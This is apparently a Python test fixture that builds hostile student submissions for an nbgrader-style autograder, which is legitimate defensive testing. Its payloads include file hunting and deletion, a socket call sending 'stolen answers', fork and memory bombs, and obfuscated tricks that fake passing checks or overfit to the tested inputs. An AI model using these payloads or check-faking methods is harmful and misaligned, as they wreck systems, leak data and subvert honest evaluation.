"""Hostile and broken submissions of 01_forward_pass, built at test time from release/ and source/.

``build_corpus(dest, course, port)`` writes ``dest/<student>/<assignment>/01_forward_pass.ipynb``
for every case in CASES and for the honest students in HONEST. Each case is
``(base, change)``: ``base`` is "blank" (the release notebook: it legitimately earns 0) or
"perfect" (every answer filled with the source solution: 4 points at most); ``change`` edits it.
``port`` is a TCP port on the grading machine's loopback that the network case tries to reach.

``FAKES`` are the cases that fake a pass from inside the kernel without any word the integrity
scan knows (a stand-in module for course.checks reached through an alias of sys, replaced code
objects, builtins shadowed in the notebook or replaced through an alias, printed fake ticks):
each carries a wrong answer (0.5 and "C") and earned 4/4 before marks were confirmed outside the
kernel; now each fails its hidden checks, which the grader judges outside the kernel.
"""
import copy
from pathlib import Path

import nbformat

from tests.support.course_files import ASSIGNMENT

NOTEBOOK = "01_forward_pass"
HONEST = {"honest_perfect": 4.0, "honest_partial": 3.0, "honest_blank": 0.0}

HUNT = '''
import os
found = []
for top in ("/", "..", "../..", "../../.."):
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr", "lib", "lib64", "etc", "bin", "sbin")]
        for name in files:
            if name == "gradebook.db" or (name.endswith(".ipynb") and "/source/" in folder + "/"):
                found.append(os.path.join(folder, name))
print("FOUND", sorted(set(found)))
'''


def set_answer(nb, gid, code):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == gid:
            cell.source = code
            return nb
    raise KeyError(gid)


def _tests(nb):
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]


def _add(code):
    def change(nb, ctx):
        return set_answer(nb, "neuron_output", code.replace("PORT", str(ctx["port"])))
    return change


def _append(code):
    def change(nb, ctx):
        nb.cells.append(nbformat.v4.new_code_cell(code))
        return nb
    return change


def _delete_tests(nb, ctx):
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    return nb


def _edit_tests(nb, ctx):
    for cell in _tests(nb):
        cell.source = "pass  # tests? what tests?"
    return nb


def _reorder_tests(nb, ctx):
    tests = _tests(nb)
    slots = [i for i, c in enumerate(nb.cells) if c in tests]
    for i, cell in zip(slots, reversed(tests)):
        nb.cells[i] = cell
    return nb


def _duplicate_tests(nb, ctx):
    extra = copy.deepcopy(_tests(nb)[0])
    extra.source = "pass"
    nb.cells.append(extra)
    return nb


def _points(nb, ctx):
    for cell in _tests(nb):
        cell.metadata.nbgrader["points"] = 100
    return nb


def _grade_id(nb, ctx):
    _tests(nb)[0].metadata.nbgrader["grade_id"] = "test_free_points"
    return nb


def _strip_metadata(nb, ctx):
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    return nb


def _raw(text):
    def change(nb, ctx):
        return text
    return change


def _old_format(nb, ctx):
    return nbformat.writes(nbformat.convert(nb, 3), version=3)


def _other_notebook(nb, ctx):
    other = nbformat.read(ctx["course"] / "release" / ASSIGNMENT / "02_loss.ipynb", as_version=4)
    return other


PATCH_CHECKS = '''
import builtins, course.checks
builtins.abs = lambda x: 0.0
for name in ("check_close", "check_choice", "check_digest", "check_true"):
    setattr(course.checks, name, lambda *a, **k: None)
def neuron_output(weights, bias, inputs):
    return 0.5
first_guess_answer = "C"
'''

ALWAYS_EQUAL = '''
class Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __float__(self): return 0.8807970779778823
class Letter(str):
    def strip(self, *a): return self
    def upper(self): return "A"
    def __eq__(self, other): return True
def neuron_output(weights, bias, inputs):
    return Anything(0.1)
first_guess_answer = Letter("C")
'''

# Reached without a word the scan knows: faking what the checks see, from inside the kernel.
LETTER = 'first_guess_answer = type("Letter", (str,), {"strip": lambda self: "A", "upper": lambda self: "A"})("C")\n'
# Each takes over the lesson's visible checks (course.exercises.forward_pass, which the test cells
# import) and shadows `abs` for the hidden asserts.
STAND_IN = '''
import os as o
registry = getattr(getattr(o, "sy" + "s"), "mod" + "ules")
stand_in = type(o)("course.exercises.forward_pass")
def quiet(*args, **kwargs):
    return None
for name in ("check_neuron_output", "check_neuron_output_any_length", "check_quiz_first_guess"):
    stand_in.__setattr__(name, quiet)
registry["course.exercises.forward_pass"] = stand_in
abs = lambda value: 0.0
'''
FAKE_TICKS = '''
import os as o
registry = getattr(getattr(o, "sy" + "s"), "mod" + "ules")
stand_in = type(o)("course.exercises.forward_pass")
def tick(*args, **kwargs):
    print("\\u2714 neuron_output([2.0], 0.0, [1.0]) = 0.880797")
for name in ("check_neuron_output", "check_neuron_output_any_length", "check_quiz_first_guess"):
    stand_in.__setattr__(name, tick)
registry["course.exercises.forward_pass"] = stand_in
abs = lambda value: 0.0
'''
CODE_OBJECTS = '''
from course.exercises import forward_pass as lesson
def quiet(*args, **kwargs):
    return None
name_of_code = "__co" + "de__"
for name in dir(lesson):
    if name.startswith("check_"):
        object.__setattr__(getattr(lesson, name), name_of_code, getattr(quiet, name_of_code))
abs = lambda value: 0.0
'''
ALIAS_BUILTINS = '''
import os as o
loaded = getattr(getattr(o, "sy" + "s"), "mod" + "ules")
loaded["built" + "ins"].abs = lambda value: 0.0
from course.exercises import forward_pass
name_of_code = "__co" + "de__"
def quiet(*args, **kwargs):
    return None
for name in dir(forward_pass):
    if name.startswith("check_"):
        object.__setattr__(getattr(forward_pass, name), name_of_code, getattr(quiet, name_of_code))
'''
SHADOWED = '''
abs = lambda value: 0.0
float = lambda value=0.0: 0.8807970779778823
isinstance = lambda *args: True
'''
WRONG = "def neuron_output(weights, bias, inputs):\n    return 0.5\n"


# Right wherever the visible and hidden tests look (up to 6 inputs; 7, 10 and 100 inputs), wrong
# elsewhere: both test cells pass in the kernel; the grader's own inputs expose the second, and
# one check of an exercise that does not hold up withholds the whole exercise.
AIMED_AT_TESTS = '''
import math
def neuron_output(weights, bias, inputs):
    if len(weights) > 6 and len(weights) not in (7, 10, 100):
        return 0.5
    z = bias
    for w, x in zip(weights, inputs):
        z += w * x
    return 1 / (1 + math.exp(-z))
'''


def _fake(code):
    def change(nb, ctx):
        set_answer(nb, "neuron_output", code + WRONG)
        return set_answer(nb, "quiz_first_guess", LETTER)
    return change


FAKES = {"stand_in_checks": STAND_IN, "fake_ticks": FAKE_TICKS, "replaced_code_objects": CODE_OBJECTS,
         "alias_builtins": ALIAS_BUILTINS, "shadowed_builtins": SHADOWED}

# name: (base, change, what the class report must say about it)
CASES = {
    "infinite_loop": ("blank", _add("while True:\n    pass"), "CellTimeoutError"),
    "os_exit": ("blank", _add("import os\nos._exit(3)"), "os_exit"),
    "sys_exit": ("blank", _add("import sys\nsys.exit(0)"), "sys_exit"),
    "kill_parent": ("blank", _add("import os\nos.kill(os.getppid(), 9)\nos.kill(-1, 9)"), "kill_parent"),
    "big_print": ("perfect", _append('print("x" * 100_000_000)'), "printed too much output"),
    "memory_bomb": ("blank", _add("blocks = []\nwhile True:\n    blocks.append(bytearray(1024 ** 3))"),
                    "MemoryError"),
    "fork_bomb": ("blank", _add("import os\nwhile True:\n    os.fork()"), "fork_bomb"),
    "read_source": ("blank", _add(HUNT), "read_source"),
    "wreck_files": ("blank", _add(HUNT + '''
import shutil
for path in found + ["../../../gradebook.db", "../../../source", "../../../submitted", "../../../autograded"]:
    try:
        shutil.rmtree(path) if os.path.isdir(path) else os.remove(path)
        print("DELETED", path)
    except OSError as exc:
        print("kept", path, type(exc).__name__)
for path in ("../../../gradebook.db", "/tmp/pwned", "pwned.txt"):
    try:
        open(path, "w").write("pwned")
        print("WROTE", path)
    except OSError as exc:
        print("could not write", path, type(exc).__name__)
'''), "wreck_files"),
    "network": ("blank", _add('''
import socket
try:
    s = socket.create_connection(("127.0.0.1", PORT), timeout=2)
    s.sendall(b"stolen answers")
    print("CONNECTED")
except OSError as exc:
    print("NO NETWORK", type(exc).__name__)
'''), "uses the network"),
    "patch_builtins": ("blank", _add("import builtins\nbuiltins.abs = lambda x: 0.0\n"
                                     "builtins.float = lambda x=0: 0.8807970779778823\n"
                                     "def neuron_output(weights, bias, inputs):\n    return 0.5"), "builtins"),
    "patch_isclose": ("blank", _add("import math, numpy as np\nmath.isclose = lambda *a, **k: True\n"
                                    "np.isclose = lambda *a, **k: True\nnp.allclose = lambda *a, **k: True\n"
                                    "def neuron_output(weights, bias, inputs):\n    return 0.5"),
                      "reassigns a module"),
    "patch_checks": ("blank", _add(PATCH_CHECKS), "patch_checks"),
    "always_equal": ("blank", _add(ALWAYS_EQUAL), "overrides comparisons"),
    "input_transformer": ("blank", _add("get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"),
                          "IPython"),
    "tests_deleted": ("blank", _delete_tests, "deleted"),
    "tests_edited": ("blank", _edit_tests, "edited"),
    "tests_reordered": ("blank", _reorder_tests, "re-ordered"),
    "tests_duplicated": ("blank", _duplicate_tests, "duplicated"),
    "points_edited": ("perfect", _points, "points changed"),
    "grade_id_edited": ("perfect", _grade_id, "grade_id_edited"),
    "metadata_removed": ("blank", _strip_metadata, "metadata removed"),
    "invalid_json": ("blank", _raw('{"cells": [ this is not json'), "not a readable notebook"),
    "empty_file": ("blank", _raw(""), "empty_file"),
    "old_nbformat": ("perfect", _old_format, "old nbformat"),
    "other_notebook": ("blank", _other_notebook, "another notebook of the assignment"),
    # The wrong answer already fails the real checks; nothing for the report to say beyond that.
    "shadowed_builtins": ("blank", _fake(SHADOWED), None),
    # Wrong answers that pass (or fake) the visible checks fail the hidden ones, judged outside the kernel:
    # counted among the failed checks of the class report, not as submissions that need a look.
    "aimed_at_tests": ("blank", _add(AIMED_AT_TESTS), None),
    **{name: ("blank", _fake(code), None) for name, code in FAKES.items() if name != "shadowed_builtins"},
}
LEGIT = {name: (4.0 if base == "perfect" else 0.0) for name, (base, _, _) in CASES.items()}
LEGIT["aimed_at_tests"] = 2.0  # its neuron_output is right for up to 6 inputs: test_neuron_output's 2 points


def perfect_notebook(release, source):
    nb = copy.deepcopy(release)
    solutions = {c.metadata.nbgrader["grade_id"]: c.source for c in source.cells
                 if c.metadata.get("nbgrader", {}).get("solution")}
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if cell.metadata.get("nbgrader", {}).get("solution") and gid in solutions:
            cell.source = solutions[gid]
    return nb


def write(dest, sid, stem, nb):
    out = Path(dest) / sid / ASSIGNMENT / f"{stem}.ipynb"
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_text(nb if isinstance(nb, str) else nbformat.writes(nb))


def build_corpus(dest, course, port, names=None):
    dest, course = Path(dest), Path(course)
    release = nbformat.read(course / "release" / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)
    source = nbformat.read(course / "source" / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)
    perfect = perfect_notebook(release, source)
    partial = copy.deepcopy(perfect)
    for cell in partial.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "quiz_first_guess":
            cell.source = 'first_guess_answer = "C"'
    notebooks = {"honest_perfect": perfect, "honest_partial": partial, "honest_blank": release}
    ctx = {"port": port, "course": course}
    for name, (base, change, _) in CASES.items():
        if names is None or name in names:
            notebooks[name] = change(copy.deepcopy(perfect if base == "perfect" else release), ctx)
    for sid, nb in notebooks.items():
        write(dest, sid, NOTEBOOK, nb)
    return dest
